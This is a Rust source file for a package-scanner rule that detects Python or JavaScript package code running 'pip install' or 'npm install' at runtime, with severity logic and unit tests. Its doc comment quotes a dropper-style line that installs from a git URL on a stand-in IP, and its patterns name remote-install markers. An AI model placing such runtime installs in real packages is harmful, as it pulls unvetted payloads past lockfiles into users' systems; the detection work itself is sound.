//! PY115 `runtime-install`: the package's own code installs another
//! package (`pip install …`, `npm install …`) when it runs.
//!
//! **What it detects.** A process started from package code whose command
//! line runs `pip install`, `python -m pip install`, `easy_install`, or
//! `npm install`/`npm i`, or a call of `pip.main(['install', …])` /
//! `pip._internal.main`. Installs from a URL, a `git+` repository or an
//! extra index are named in the evidence.
//!
//! **Why it matters.** A second package installed behind the resolver's
//! back escapes the lockfile, the hashes and the company mirror: droppers
//! use it to pull their real payload (`pip install git+https://…`) at
//! install or first import (MITRE T1195.002).
//!
//! **Example.**
//! ```python
//! subprocess.run(["pip", "install", "git+https://203.0.113.5/x.git"])
//! ```
//!
//! **False positives.** Developer tooling (project generators, notebooks'
//! `%pip`, CLI extension managers, build helpers under `scripts/`) installs
//! packages on request: low in library code (medium from a URL), and
//! test/tooling paths are discounted by the score; high only where code
//! that runs unasked installs from a URL. `pip install .` (the project
//! itself) and `-r requirements…` are not flagged.

use sluice_model::{Confidence, Finding, Severity};

use super::at_call;
use super::facts::{Caps, Facts, is_proc_sink_name};

/// Rule name.
pub const NAME: &str = "runtime-install";

/// The installer a command line runs, if it installs a package.
fn installer(cmd: &str) -> Option<&'static str> {
    let words: Vec<&str> = cmd
        .split(|c: char| c.is_whitespace() || matches!(c, ',' | '[' | ']' | '\'' | '"'))
        .filter(|w| !w.is_empty())
        .collect();
    let pos = |w: &str| words.iter().position(|x| *x == w);
    if let Some(i) = pos("install") {
        let before = &words[..i];
        if before
            .iter()
            .any(|w| w.ends_with("pip") || w.ends_with("pip3") || w.ends_with("pip.exe"))
        {
            return Some("pip");
        }
        if before
            .iter()
            .any(|w| w.ends_with("npm") || w.ends_with("npm.cmd"))
        {
            return Some("npm");
        }
    }
    if pos("i").is_some() && words.iter().any(|w| w.ends_with("npm")) {
        return Some("npm");
    }
    if words.iter().any(|w| w.ends_with("easy_install")) {
        return Some("easy_install");
    }
    None
}

/// Check one file.
#[must_use]
pub fn check(f: &Facts<'_>) -> Vec<Finding> {
    let role = f.file.role;
    for c in &f.calls {
        let via_api = matches!(
            c.target.as_str(),
            "pip.main" | "pip._internal.main" | "pip._internal.cli.main.main"
        ) && c.strings.iter().any(|s| s == "install");
        let proc = is_proc_sink_name(&c.target) || c.caps.has(Caps::PROC);
        if !via_api && !proc {
            continue;
        }
        let cmd = if via_api {
            format!("pip {}", c.strings.join(" "))
        } else {
            c.cmdline()
        };
        let lower = cmd.to_ascii_lowercase();
        let Some(tool) = installer(&lower).or(via_api.then_some("pip")) else {
            continue;
        };
        // `pip install .` / `pip install -e .`: the project itself.
        let args_after: Vec<&str> = lower
            .split_once(" install")
            .map(|(_, r)| r)
            .unwrap_or("")
            .split_whitespace()
            .filter(|w| !w.starts_with('-'))
            .collect();
        if !args_after.is_empty()
            && args_after
                .iter()
                .all(|w| w.starts_with('.') || w.starts_with('/') || w.contains("requirements"))
        {
            continue;
        }
        let remote = [
            "git+",
            "http://",
            "https://",
            "--index-url",
            "--extra-index-url",
            "-i ",
        ]
        .iter()
        .find(|p| lower.contains(*p));
        let (sev, conf) = match (role.runs_unasked(), remote.is_some()) {
            (true, true) => (Severity::High, Confidence::High),
            (true, false) => (Severity::Medium, Confidence::High),
            (false, true) => (Severity::Medium, Confidence::High),
            (false, false) => (Severity::Low, Confidence::Medium),
        };
        let mut fd = at_call(
            f,
            "PY115",
            NAME,
            sev,
            conf,
            format!("installs another package with {tool} when it runs"),
            c,
        )
        .evidence(format!(
            "command: {}",
            cmd.chars().take(160).collect::<String>()
        ));
        if let Some(r) = remote {
            fd = fd.evidence(format!("installs from outside the resolver ({r})"));
        }
        return vec![fd];
    }
    Vec::new()
}

#[cfg(test)]
mod tests {
    use super::installer;

    #[test]
    fn installers() {
        assert_eq!(installer("pip install requests"), Some("pip"));
        assert_eq!(installer("/usr/bin/python3 -m pip install x"), Some("pip"));
        assert_eq!(installer("npm i -g evil"), Some("npm"));
        assert_eq!(installer("pip list"), None);
        assert_eq!(installer("make install"), None);
    }
}
